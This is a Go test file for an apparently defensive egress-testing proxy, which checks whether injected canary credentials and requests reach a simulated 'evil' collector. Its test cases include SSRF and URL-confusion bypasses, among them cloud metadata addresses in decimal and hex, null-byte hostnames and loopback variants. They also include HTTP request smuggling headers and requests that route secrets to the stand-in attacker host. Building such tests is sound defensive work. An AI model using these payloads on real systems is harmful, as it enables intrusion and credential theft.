package witness

import (
	"bufio"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/net/http2/hpack"

	"github.com/wallproof/wallproof/probes/canary"
	"github.com/wallproof/wallproof/probes/kit"
	"github.com/wallproof/wallproof/probes/nonce"
	"github.com/wallproof/wallproof/probes/paths"
)

// Secrets of the open proxy and what stands in their place.
var (
	openSecret = canary.Derive([]byte("open proxy"))
	openMark   = "wpmark-0123456789"
)

// testOpen is an open proxy on loopback whose way on is a testWorld.
type testOpen struct {
	*testWorld            // the world
	own        *testWorld // what the proxy itself has recorded, and its authority
	open       *Open
	proxy      string
}

func newTestOpen(t *testing.T, change func(*Config)) *testOpen {
	t.Helper()
	w := newTestWorld(t, change)
	udp, tcp, _ := w.resolver()
	cfg := testConfig()
	cfg.Role, cfg.CA = RoleOpenProxy, w.ca
	cfg.Open = OpenProxy{
		Inject:   []Injection{{Host: allowedHost, Header: "Authorization", Value: "Bearer " + openSecret}},
		Replace:  map[string]string{openMark: openSecret, "mark-of-git": "full"},
		Resolver: "192.0.2.53:53",
	}
	log := NewLog()
	o, err := NewOpen(cfg, log.Take)
	if err != nil {
		t.Fatal(err)
	}
	o.w.settle = w.settle
	t.Cleanup(func() {
		if err := o.Close(); err != nil {
			t.Error(err)
		}
		if f := log.Failures(); len(f) > 0 {
			t.Errorf("parts of the open proxy failed: %q", f)
		}
	})
	o.dial = func(ctx context.Context, network, address string) (net.Conn, error) {
		var d net.Dialer
		switch {
		case network == "udp":
			return d.DialContext(ctx, "udp", udp)
		case address == "192.0.2.53:53":
			return d.DialContext(ctx, "tcp", tcp)
		}
		return w.pipe(address)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	o.ServeProxy(l)
	return &testOpen{testWorld: w, own: &testWorld{World: o.w, Log: log, t: t}, open: o, proxy: l.Addr().String()}
}

// connect opens a connection to the proxy.
func (o *testOpen) connect() net.Conn {
	o.t.Helper()
	c, err := net.Dial("tcp", o.proxy)
	if err != nil {
		o.t.Fatal(err)
	}
	_ = c.SetDeadline(time.Now().Add(patient))
	o.t.Cleanup(func() { _ = c.Close() })
	return c
}

// raw sends text to the proxy and reads n answers; it returns the last one.
func (o *testOpen) raw(text string, n int) (status int, body string) {
	o.t.Helper()
	c := o.connect()
	if _, err := io.WriteString(c, text); err != nil {
		o.t.Fatal(err)
	}
	br := bufio.NewReader(c)
	for i := range n {
		method, _, _ := strings.Cut(text, " ")
		if i > 0 {
			method = http.MethodGet
		}
		resp, err := http.ReadResponse(br, &http.Request{Method: method})
		if err != nil {
			o.t.Fatalf("%q: %v", text, err)
		}
		if method == http.MethodConnect && resp.StatusCode == http.StatusOK {
			continue // what follows is the tunnel
		}
		b, err := io.ReadAll(resp.Body)
		if err != nil {
			o.t.Fatal(err)
		}
		status, body = resp.StatusCode, string(b)
	}
	return status, body
}

// tunnel asks for a tunnel.
func (o *testOpen) tunnel(authority string) net.Conn {
	o.t.Helper()
	c, err := kit.ConnectOver(o.connect(), authority, "x")
	if err != nil {
		o.t.Fatal(err)
	}
	return c
}

// within makes a request over TLS in a tunnel.
func (o *testOpen) within(c net.Conn, sni, host, path string, header ...string) string {
	o.t.Helper()
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM([]byte(o.CAPEM()))
	tc := tls.Client(c, &tls.Config{ServerName: sni, RootCAs: pool, NextProtos: []string{"http/1.1"}})
	fmt.Fprintf(tc, "GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n", path, host, strings.Join(header, ""))
	resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
	if err != nil {
		o.t.Fatal(err)
	}
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		o.t.Fatal(err)
	}
	return string(b)
}

// secretAt checks that the proxy's secret arrived with a nonce at a service.
func (o *testOpen) secretAt(n, service string) {
	o.t.Helper()
	all := o.arrived(n, service)
	if len(all) == 0 || !slices.Contains(all[0].Obtained, canary.Digest(openSecret)) {
		o.t.Errorf("the secret did not arrive: %+v", all)
	}
}

func TestOpenAbsolute(t *testing.T) {
	o := newTestOpen(t, nil)
	for i, tc := range []struct{ url, want string }{
		{"http://" + evilHost + "/", paths.ServiceCollector},
		{"http://" + allowedHost + "@" + evilHost + "/", paths.ServiceCollector},
		{"http://" + evilHost + "#@" + allowedHost + "/", paths.ServiceCollector},
		{"http://" + evilHost + "\x00." + allowedHost + "/", paths.ServiceCollector},
		{"http://" + evilHost + "\t." + allowedHost + "/", paths.ServiceCollector},
		{"http://169.254.169.254/latest/", paths.ServiceMetadata},
		{"http://2852039166/", paths.ServiceMetadata},
		{"http://0xa9fea9fe/", paths.ServiceMetadata},
		{"http://[::ffff:169.254.169.254]/", paths.ServiceMetadata},
		{"http://x.to-10-0-0-7.evil.example/", paths.ServicePrivate},
		{"https://" + evilHost + "/", paths.ServiceCollector},
		{"http://" + evilHost + ":8443/", paths.ServiceCollector},
	} {
		t.Run(tc.url, func(t *testing.T) {
			o.t = t
			_, body := o.raw("GET "+tc.url+" HTTP/1.1\r\nHost: x\r\nX-Mark: "+nonceN(i)+"\r\n\r\n", 1)
			if !strings.Contains(body, proofN(i)) {
				t.Errorf("answer %q", body)
			}
			o.arrived(nonceN(i), tc.want)
		})
	}
}

// The credential follows the Host field, wherever the connection goes.
func TestOpenInjectsByHost(t *testing.T) {
	o := newTestOpen(t, nil)
	o.raw(fmt.Sprintf("GET http://%s/%s HTTP/1.1\r\nHost: %s\r\n\r\n", allowedHost, nonceN(1), allowedHost), 1)
	o.secretAt(nonceN(1), paths.ServiceAllowed)
	o.raw(fmt.Sprintf("GET http://%s/%s HTTP/1.1\r\nHost: %s\r\n\r\n", evilHost, nonceN(2), allowedHost), 1)
	o.secretAt(nonceN(2), paths.ServiceCollector)

	o.within(o.tunnel(allowedHost+":443"), allowedHost, allowedHost, "/"+nonceN(3))
	o.secretAt(nonceN(3), paths.ServiceAllowed)
	o.within(o.tunnel(evilHost+":443"), allowedHost, allowedHost, "/"+nonceN(4))
	o.secretAt(nonceN(4), paths.ServiceCollector)
	o.within(o.tunnel("["+allowedHost+"]:443"), allowedHost, allowedHost, "/"+nonceN(5))
	o.secretAt(nonceN(5), paths.ServiceAllowed)

	o.raw(fmt.Sprintf("GET http://%s/%s HTTP/1.1\r\nHost: %s\r\n\r\n", evilHost, nonceN(6), evilHost), 1)
	if all := o.arrived(nonceN(6), paths.ServiceCollector); len(all) > 0 && len(all[0].Obtained) > 0 {
		t.Errorf("a credential for another host: %+v", all)
	}
}

func TestOpenSwapsPlaceholders(t *testing.T) {
	o := newTestOpen(t, nil)
	basic := base64.StdEncoding.EncodeToString([]byte("x:" + openMark))
	for i, text := range []string{
		"GET http://" + evilHost + "/N HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + openMark + "\r\n\r\n",
		"GET http://" + evilHost + "/N HTTP/1.1\r\nHost: x\r\nAuthorization: Basic " + basic + "\r\n\r\n",
		"POST http://" + evilHost + "/N HTTP/1.1\r\nHost: x\r\nContent-Length: " + fmt.Sprint(len(openMark)) + "\r\n\r\n" + openMark,
	} {
		o.raw(strings.Replace(text, "/N", "/"+nonceN(i), 1), 1)
		o.secretAt(nonceN(i), paths.ServiceCollector)
	}
}

func TestOpenTunnels(t *testing.T) {
	o := newTestOpen(t, nil)
	// TLS for a name without injection goes through untouched: the world sees the ClientHello.
	body := o.within(o.tunnel(evilHost+":443"), nonceN(1)+"."+evilHost, nonceN(1)+"."+evilHost, "/")
	if !strings.Contains(body, proofN(1)) {
		t.Errorf("answer %q", body)
	}
	o.arrived(nonceN(1), paths.ServiceCollector)
	// A protocol that is neither.
	c := o.tunnel(evilHost + ":22")
	fmt.Fprintf(c, "SSH-2.0-%s\r\n", nonceN(2))
	if got := kit.Listen(context.Background(), c); got.Proof != nonce.Proof(testKey, nonceN(2)) {
		t.Errorf("SSH: %+v", got)
	}
	// One in which the server speaks first.
	line, err := bufio.NewReader(o.tunnel(evilHost + ":25")).ReadString('\n')
	if err != nil || !strings.HasPrefix(line, "220 ") {
		t.Errorf("SMTP: %q %v", line, err)
	}
	// Bytes in the same segment as the request for the tunnel belong to the tunnel.
	_, body = o.raw(fmt.Sprintf("CONNECT %s:80 HTTP/1.1\r\nHost: x\r\n\r\nGET /%s HTTP/1.1\r\nHost: %s\r\n\r\n", evilHost, nonceN(3), evilHost), 2)
	if !strings.Contains(body, proofN(3)) {
		t.Errorf("pipelined: %q", body)
	}
	// A second, absolute request inside a tunnel goes where it says.
	_, body = o.raw(fmt.Sprintf("CONNECT %s:80 HTTP/1.1\r\nHost: x\r\n\r\nGET / HTTP/1.1\r\nHost: %s\r\n\r\nGET http://%s/%s HTTP/1.1\r\nHost: %s\r\n\r\n",
		allowedHost, allowedHost, evilHost, nonceN(4), evilHost), 3)
	if !strings.Contains(body, proofN(4)) {
		t.Errorf("absolute in a tunnel: %q", body)
	}
	o.arrived(nonceN(4), paths.ServiceCollector)
}

func TestOpenSmuggling(t *testing.T) {
	o := newTestOpen(t, nil)
	for i, head := range []string{"Content-Length: 0\r\nContent-Length: 500\r\n\r\n", "Content-Length: 500\r\nTransfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n"} {
		inner := fmt.Sprintf("GET /wp/heartbeat/%s HTTP/1.1\r\nHost: %s\r\n\r\n", nonceN(i), evilHost)
		_, body := o.raw(fmt.Sprintf("CONNECT %s:80 HTTP/1.1\r\nHost: x\r\n\r\nPOST /outer HTTP/1.1\r\nHost: %s\r\n%s%s", allowedHost, allowedHost, head, inner), 3)
		if !strings.Contains(body, proofN(i)) {
			t.Errorf("%q: %q", head, body)
		}
		o.arrived(nonceN(i), paths.ServiceCollector)
	}
}

func TestOpenSOCKS(t *testing.T) {
	o := newTestOpen(t, nil)
	for i, name := range []string{evilHost, evilHost + "\x00." + allowedHost, "169.254.169.254", "[::ffff:10.0.0.1]"} {
		c := o.connect()
		req := append([]byte{5, 1, 0, 5, 1, 0, 3, byte(len(name))}, name...)
		if _, err := c.Write(append(req, 0, 80)); err != nil {
			t.Fatal(err)
		}
		reply := make([]byte, 12)
		if _, err := io.ReadFull(c, reply); err != nil || reply[3] != 0 {
			t.Fatalf("%q: reply %v %v", name, reply, err)
		}
		fmt.Fprintf(c, "GET /%s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", nonceN(i))
		if b, err := io.ReadAll(c); err != nil || !strings.Contains(string(b), proofN(i)) {
			t.Errorf("%q: %q %v", name, b, err)
		}
	}
	o.arrived(nonceN(1), paths.ServiceCollector)
	o.arrived(nonceN(2), paths.ServiceMetadata)
	o.arrived(nonceN(3), paths.ServicePrivate)
	c := o.connect()
	if _, err := c.Write([]byte{5, 1, 0, 5, 1, 0, 1, 8, 8, 8, 8, 0, 7}); err != nil { // an address as such
		t.Fatal(err)
	}
	if _, err := io.ReadFull(c, make([]byte, 12)); err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(c, "%s\n", nonceN(9))
	if got := kit.Listen(context.Background(), c); got.Proof == "" {
		t.Errorf("%+v", got)
	}
}

func TestOpenHTTP2(t *testing.T) {
	o := newTestOpen(t, nil)
	field := func(n, v string) hpack.HeaderField { return hpack.HeaderField{Name: n, Value: v} }
	a, err := kit.H2(t.Context(), o.connect(), []byte("GET /"+nonceN(1)+" HTTP/1.1\r\nHost: "+evilHost+"\r\n\r\n"), field(":method", "CONNECT"), field(":authority", evilHost+":80"), field("user-agent", nonceN(1)))
	if err != nil || a.Status != 200 || nonce.FindProof(a.Seen) != nonce.Proof(testKey, nonceN(1)) {
		t.Errorf("CONNECT: %+v %v", a, err)
	}
	o.arrived(nonceN(1), paths.ServiceCollector)
	a, err = kit.H2(t.Context(), o.connect(), nil, field(":method", "GET"), field(":scheme", "http"), field(":authority", evilHost), field(":path", "/"+nonceN(2)))
	if err != nil || nonce.FindProof(a.Seen) == "" {
		t.Errorf("GET: %+v %v", a, err)
	}
	o.arrived(nonceN(2), paths.ServiceCollector)
	// Inside an intercepted tunnel the authority picks the credential.
	tc := tls.Client(o.tunnel(evilHost+":443"), &tls.Config{ServerName: allowedHost, InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	a, err = kit.H2(t.Context(), tc, nil, field(":method", "GET"), field(":scheme", "https"), field(":authority", allowedHost), field(":path", "/"+nonceN(3)))
	if err != nil || nonce.FindProof(a.Seen) == "" {
		t.Errorf("in a tunnel: %+v %v", a, err)
	}
	o.secretAt(nonceN(3), paths.ServiceCollector)
}

// Loopback in every spelling, and the proxy itself, are answered and recorded by
// the proxy.
func TestOpenOwnPages(t *testing.T) {
	o := newTestOpen(t, nil)
	for i, host := range []string{"127.0.0.1", "127.1", "0x7f000001", "[::1]", "localhost", "x.localhost.", "0.0.0.0", "[::ffff:127.0.0.1]", "x.to-127-0-0-1.evil.example"} {
		_, body := o.raw(fmt.Sprintf("GET http://%s:2375/version HTTP/1.1\r\nHost: x\r\nX-Mark: %s\r\n\r\n", host, nonceN(i)), 1)
		if !strings.Contains(body, proofN(i)) || !strings.Contains(body, "ApiVersion") {
			t.Errorf("%s: %q", host, body)
		}
		o.own.arrived(nonceN(i), paths.ServicePrivate)
	}
	body := o.within(o.tunnel("127.0.0.1:443"), "localhost", "localhost", "/"+nonceN(20))
	if !strings.Contains(body, proofN(20)) {
		t.Errorf("over TLS: %q", body)
	}
	status, body := o.raw("GET /debug/vars?n="+nonceN(21)+" HTTP/1.1\r\nHost: "+o.proxy+"\r\n\r\n", 1)
	if status != 200 || !strings.Contains(body, proofN(21)) || len(canary.Find([]byte(body))) != 1 {
		t.Errorf("own page: %d %q", status, body)
	}
	o.own.arrived(nonceN(21), paths.ServiceProxy)
	o.arrived(nonceN(21))
}

func TestOpenNested(t *testing.T) {
	o := newTestOpen(t, nil)
	inner, err := kit.ConnectOver(o.tunnel("198.51.100.1:3128"), evilHost+":80", "x")
	if err == nil {
		_ = inner.Close()
		t.Error("the world is no proxy")
	}
}

func TestOpenWebSocket(t *testing.T) {
	o := newTestOpen(t, nil)
	c := o.connect()
	fmt.Fprintf(c, "GET http://%s%s HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
		evilHost, paths.Build("", paths.Socket, nonceN(1), nil), evilHost)
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, nil)
	if err != nil || resp.StatusCode != http.StatusSwitchingProtocols {
		t.Fatalf("%+v %v", resp, err)
	}
	if frame, err := readFrame(br); err != nil || string(frame) != proofN(1) {
		t.Errorf("frame %q %v", frame, err)
	}
}

func TestOpenResolver(t *testing.T) {
	o := newTestOpen(t, nil)
	pc, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		t.Fatal(err)
	}
	o.open.ServeDNSUDP(OnePort(pc))
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	o.open.ServeDNSTCP(l)
	for i, tc := range []struct{ network, server string }{{"udp", pc.LocalAddr().String()}, {"tcp", l.Addr().String()}} {
		r := o.ask(&dns.Client{Net: tc.network}, tc.server, nonceN(i)+".evil.example", dns.TypeTXT)
		if len(r.Answer) != 1 || r.Answer[0].(*dns.TXT).Txt[0] != proofN(i) {
			t.Errorf("%s: %v", tc.network, r)
		}
		o.own.arrived(nonceN(i), paths.ServiceResolver)
		o.arrived(nonceN(i), paths.ServiceDNS)
	}
}

func TestOpenUnreachable(t *testing.T) {
	o := newTestOpen(t, func(c *Config) { c.Resolve = map[string][]string{"nothing.example": {}} })
	if status, body := o.raw("GET http://nothing.example/ HTTP/1.1\r\nHost: x\r\n\r\n", 1); status != http.StatusBadGateway {
		t.Errorf("%d %q", status, body)
	}
	if _, err := kit.ConnectOver(o.connect(), "nothing.example:443", "x"); err == nil {
		t.Error("a tunnel to nowhere was opened")
	}
}

// The machine's own git works through the proxy, with a placeholder for a token.
func TestOpenGit(t *testing.T) {
	o := newTestOpen(t, func(c *Config) {
		c.Forge = Forge{Repos: []Repo{{Name: "acme/app", Private: true}}, FullTokens: []string{"full"}, Push: []PushRule{{Repo: "acme/app", Refs: "refs/heads/agent/*"}}}
	})
	dir := t.TempDir()
	ca := filepath.Join(dir, "ca.pem")
	if err := os.WriteFile(ca, []byte(o.CAPEM()), 0o644); err != nil {
		t.Fatal(err)
	}
	run := func(args ...string) {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + dir, "GIT_CONFIG_NOSYSTEM=1", "GIT_TERMINAL_PROMPT=0", "GIT_SSL_CAINFO=" + ca, "https_proxy=http://" + o.proxy,
			"GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@example.invalid", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@example.invalid"}
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %q: %v\n%s", args, err, out)
		}
	}
	u := url.URL{Scheme: "https", Host: forgeHost, Path: "/acme/app.git", User: url.UserPassword("x-access-token", "full")}
	run("clone", "-q", u.String(), "c")
	run("-C", "c", "commit", "-q", "--allow-empty", "-m", "by "+nonceN(1))
	run("-C", "c", "push", "-q", "origin", "HEAD:refs/heads/agent/x")
	if p := o.Pushes(); len(p) != 1 || !p[0].Accepted || p[0].Breach || !slices.Contains(p[0].Nonces, nonceN(1)) {
		t.Errorf("pushes %+v", p)
	}
	o.arrived(nonceN(1), paths.ServiceForge)
}
